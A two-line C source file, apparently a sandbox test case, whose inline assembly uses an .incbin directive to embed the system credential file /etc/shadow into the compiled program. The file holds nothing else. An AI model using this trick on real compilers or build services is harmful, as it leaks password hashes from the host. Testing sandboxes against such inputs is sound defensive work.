asm(".data\n.incbin \"/etc/shadow\"\n");
int main() {}
